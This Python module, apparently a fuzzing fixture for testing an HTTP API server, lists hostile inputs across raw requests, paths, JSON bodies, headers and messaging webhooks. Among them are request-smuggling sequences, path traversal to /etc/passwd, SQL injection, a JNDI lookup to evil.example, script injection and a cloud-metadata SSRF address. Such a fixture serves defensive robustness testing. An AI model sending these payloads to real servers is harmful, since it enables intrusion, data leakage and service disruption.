"""Hostile inputs: what is sent to a server to make it fail, leak or obey. Each is small; together they reach every parser behind HTTP."""

import json
from collections.abc import Iterator
from typing import Any, NamedTuple

DEEP = 20_000


class HostileRequest(NamedTuple):
    """A request that a client library can send."""

    method: str
    path: str
    body: bytes | None = None
    headers: tuple[tuple[str, str], ...] = ()


# --- bytes that no client library sends

LINE = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
POST = b"POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\nContent-Type: application/json\r\n"
RAW: tuple[bytes, ...] = (
    b"\x00\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 64,  # TLS where plain HTTP is spoken
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"SSH-2.0-OpenSSH_9.9\r\n\r\n",
    b"GET\r\n\r\n",
    b"GET / HTTP/9.9\r\nHost: 127.0.0.1\r\n\r\n",
    b"GET / HTTP/1.1\nHost: 127.0.0.1\n\n",
    b"GET  / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    b"get / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    b"\r\n\r\n\r\nGET / HTTP/1.0\r\n\r\n",
    b"GET http://evil.example/health HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
    b"GET //evil.example/health HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
    b"CONNECT evil.example:443 HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
    b"OPTIONS * HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
    b"TRACE / HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
    b"GET /\x00 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    b"GET /\xff\xfe HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
    b"GET /" + b"a" * 70_000 + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    b"GET /health?" + b"a=b&" * 12_000 + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
    LINE + b"X A: b\r\n\r\n",
    LINE + b": b\r\n\r\n",
    LINE + b"X-A\r\n\r\n",
    LINE + b"X-A: b\r\n folded\r\n\r\n",
    LINE + b"X-A: \x00\r\n\r\n",
    LINE + b"X-A: \xff\xfe\r\n\r\n",
    LINE + b"X-Request-ID: a\x0bb\r\n\r\n",
    LINE + b"Cookie: " + b"a=b; " * 5_000 + b"\r\n\r\n",
    LINE + b"Cookie: hermes_visitor=\xff; hermes_console=\xfe\r\n\r\n",
    LINE + b"Authorization: Bearer \xff\xfe\r\n\r\n",
    LINE + b"Authorization: Basic \xff\xfe\r\n\r\n",
    LINE + b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: x\r\n\r\n",
    LINE + b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n",
    LINE + b"Expect: 100-continue\r\n\r\n",
    LINE + b"Expect: 200-ok\r\n\r\n",
    LINE + b"Range: bytes=0-18446744073709551616\r\n\r\n",
    POST + b"Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
    POST + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
    POST + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    POST + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    POST + b"Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\n",
    POST + b"Transfer-Encoding: chunked\r\n\r\n-1\r\n{}\r\n0\r\n\r\n",
    POST + b"Transfer-Encoding: chunked\r\n\r\n2;" + b"x" * 20_000 + b"\r\n{}\r\n0\r\n\r\n",
    POST + b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\nHost: evil.example\r\nX-Forwarded-User: owner\r\n\r\n",
    POST + b"Content-Length: -1\r\n\r\n",
    POST + b"Content-Length: 1e3\r\n\r\n",
    POST + b"Content-Length: 99999999999999999999999\r\n\r\n{}",
    POST + b"Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}x",
    POST + b"Content-Length: 2, 2\r\n\r\n{}",
    POST + b"Content-Length: +2\r\n\r\n{}",
    POST + b"Content-Length: 2000000000\r\n\r\n{}",
    POST + b"Content-Encoding: gzip\r\nContent-Length: 4\r\n\r\n\x1f\x8b\x08\x00",
)

# --- paths

NAMES: tuple[str, ...] = (
    "%00", "a%00b", "%ff", "%c0%ae%c0%ae", "..%2f..%2fetc%2fpasswd", "....//....//", "%2e%2e", "%252e%252e%252f", "a" * 3_000,
    "'%20or%201=1--", "%27;drop%20table%20inbox;--", "%24%7Bjndi:ldap:%2F%2Fevil.example%7D", "{{7*7}}", "%0d%0aSet-Cookie:a=b", "-1",
    "NaN", "1e309", "9" * 400, "0x10", "null", "%E2%80%AE", "%F0%9F%92%A9", "%ED%A0%80", "00000000-0000-0000-0000-000000000000",
    "urn:uuid:x", "*", "~",
)  # fmt: skip
PLACES: tuple[str, ...] = (
    "/v1/messages/{}", "/v1/messages/{}/events", "/v1/runs/{}", "/v1/runs/{}/events", "/v1/models/{}", "/v1/responses/{}",
    "/v1/responses/{}/input_items", "/v1/users/{}/data", "/v1/users/{}/memory", "/anthropic/v1/models/{}", "/web/messages/{}", "/page/{}",
    "/console/static/{}", "/console/turns/{}", "/v1/ops/turns/{}", "/v1/ops/conversations/{}", "/v1/ops/people/{}", "/webhooks/telegram/{}",
    "/webhooks/{}/x", "/{}", "/v1/news?user={}", "/v1/ops/events?after={}", "/v1/ops/turns?cursor={}", "/console/arrive?next={}",
)  # fmt: skip


def hostile_paths() -> Iterator[HostileRequest]:
    for at, place in enumerate(PLACES):
        # Every name at some places, and every place with some names: all pairs would say the same once more.
        for name in NAMES[at % 3 :: 3]:
            yield HostileRequest("GET", place.format(name))
    for path in ("/v1/users/%00", "/v1/users/a/memory/%00", "/v1/responses/%ff"):
        yield HostileRequest("DELETE", path)


# --- bodies

VALUES: tuple[Any, ...] = (
    None, True, 0, -1, 2**63, 2**64, 10**400, 1e308, "", "\0", "\ud800", "\u202e\u2066", "a" * 200_000, [], {}, [[]], [None], [{}],
    {"role": "user"}, {"__proto__": 1}, {"$ne": 1}, "{{7*7}}", "${jndi:ldap://evil.example}", "<script>alert(1)</script>",
    "file:///etc/passwd", "http://169.254.169.254/latest/meta-data", "https://evil.example\r\nX: y", ["a"] * 2_000,
)  # fmt: skip
TEMPLATES: dict[str, dict[str, Any]] = {
    "/v1/messages": {
        "text": "hi", "user": "ada", "channel": "c", "media_url": "https://x.example/a", "media_type": "image/png", "approve": "ABCDEF",
    },
    "/v1/runs": {"input": "hi", "instructions": "i", "session_id": "s", "user": "ada"},
    "/v1/chat/completions": {
        "model": "hermes", "messages": [{"role": "user", "content": "hi"}], "tools": [], "tool_choice": "auto", "max_tokens": 5,
        "user": "ada", "response_format": {"type": "text"}, "metadata": {}, "stop": "x", "logit_bias": {}, "n": 1, "stream_options": {},
    },
    "/v1/responses": {
        "model": "hermes", "input": "hi", "instructions": "i", "previous_response_id": "resp_1", "tools": [], "text": {}, "reasoning": {},
        "max_output_tokens": 5, "include": [], "metadata": {},
    },
    "/v1/embeddings": {"model": "hermes", "input": "hi", "encoding_format": "float", "dimensions": 3, "user": "ada"},
    "/anthropic/v1/messages": {
        "model": "hermes", "max_tokens": 5, "messages": [{"role": "user", "content": "hi"}], "system": "s", "tools": [], "thinking": {},
        "metadata": {"user_id": "ada"}, "stop_sequences": [], "tool_choice": {},
    },
    "/web/messages": {"text": "hi", "choice": "", "id": "7d2c1e5a-6f0b-4a53-9f1e-0c1d2e3f4a5b"},
    "/v1/ops/kill-switch": {"engaged": True, "reason": "r"},
    "/v1/ops/fleet/concierge/cap": {"daily_usd": 1},
}  # fmt: skip
DOCUMENTS: tuple[bytes, ...] = (
    b"", b" ", b"{", b"}", b"null", b"[]", b'"a"', b"NaN", b"1e999999", b"\xff\xfe", b"\xef\xbb\xbf{}", b"{}{}", b"{}\0", b'{"a":1,}',
    b'{"text":"a","text":"b"}', b"[" * DEEP, b'{"a":' * DEEP, b"[" * DEEP + b"]" * DEEP, b'{"text":"' + b"\\ud83d" * 100 + b'"}',
    b'{"text": Infinity}', b"9" * 5_000, b'{"' + b"k" * 100_000 + b'":1}', b"text=hi&user=ada",
    b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>",
    b"--x\r\nContent-Disposition: form-data; name=text\r\n\r\nhi\r\n--x--",
)  # fmt: skip
JSON = (("Content-Type", "application/json"),)


def hostile_bodies() -> Iterator[HostileRequest]:
    for path, template in TEMPLATES.items():
        for document in DOCUMENTS:
            yield HostileRequest("POST", path, document, JSON)
        for at, name in enumerate(template):
            for value in VALUES[at % 4 :: 4]:
                yield HostileRequest("POST", path, to_json({**template, name: value}), JSON)


def to_json(value: Any) -> bytes:
    return json.dumps(value).encode("utf-8", "surrogatepass")


# --- headers

HEADER_VALUES: tuple[str, ...] = (
    "",
    " ",
    "a" * 8_000,
    "\u00ff",
    "%00",
    "'; drop table inbox; --",
    "-1",
    "9" * 30,
    "null",
    "{}",
    "0-0",
    "99999999999999999999-1",
)
HEADER_NAMES: tuple[str, ...] = (
    "Authorization", "X-Api-Key", "Idempotency-Key", "Prefer", "Last-Event-ID", "X-Hermes-Session", "X-Hermes-Session-Key",
    "X-Hermes-Reason", "Cookie", "Accept", "Content-Type", "X-Request-ID", "X-Forwarded-For", "X-Forwarded-Proto", "Origin",
    "If-None-Match", "Accept-Encoding",
)  # fmt: skip


def hostile_headers() -> Iterator[HostileRequest]:
    for at, name in enumerate(HEADER_NAMES):
        for value in HEADER_VALUES[at % 2 :: 2]:
            yield HostileRequest("POST", "/v1/messages", b'{"text": "hi"}', (("Content-Type", "application/json"), (name, value)))
            yield HostileRequest("GET", "/console/turns", None, ((name, value),))


# --- webhooks


def hostile_updates() -> Iterator[bytes]:
    """Bodies of webhooks: what is wrong in them is wrong on every platform."""
    yield from DOCUMENTS
    message = {"message_id": 1, "date": 1, "chat": {"id": 1, "type": "private"}, "from": {"id": 1, "first_name": "A"}, "text": "hi"}
    for name in (*message, "photo", "caption", "entities", "reply_to_message", "sticker", "media_group_id"):
        for value in VALUES[::3]:
            yield to_json({"update_id": 1, "message": {**message, name: value}})
    for name in ("update_id", "message", "callback_query", "edited_message", "message_reaction", "my_chat_member"):
        for value in VALUES[1::3]:
            yield to_json({"update_id": 2, name: value})
    said: dict[str, Any] = {"from": "628111", "id": "wamid.1", "timestamp": "1", "type": "text", "text": {"body": "hi"}}
    for name in (*said, "image", "context", "interactive", "referral", "group_id", "errors"):
        for value in VALUES[2::3]:
            yield to_json(whatsapp_body({"messages": [{**said, name: value}]}))
    for name in ("messages", "statuses", "contacts", "metadata", "errors"):
        for value in VALUES[::4]:
            yield to_json(whatsapp_body({name: value}))
    note: dict[str, Any] = {"sender": {"id": "1"}, "recipient": {"id": "17"}, "timestamp": 1, "message": {"mid": "m", "text": "hi"}}
    for name in (*note, "postback", "reaction", "read", "referral"):
        for value in VALUES[1::4]:
            yield to_json({"object": "instagram", "entry": [{"id": "17", "time": 1, "messaging": [{**note, name: value}]}]})
    for value in VALUES:
        yield to_json({"object": value, "entry": value})


def whatsapp_body(value: dict[str, Any]) -> dict[str, Any]:
    metadata = {"display_phone_number": "1", "phone_number_id": "17"}
    change = {"field": "messages", "value": {"messaging_product": "whatsapp", "metadata": metadata, **value}}
    return {"object": "whatsapp_business_account", "entry": [{"id": "17", "changes": [change]}]}


def hostile_requests() -> list[HostileRequest]:
    return [*hostile_paths(), *hostile_bodies(), *hostile_headers()]
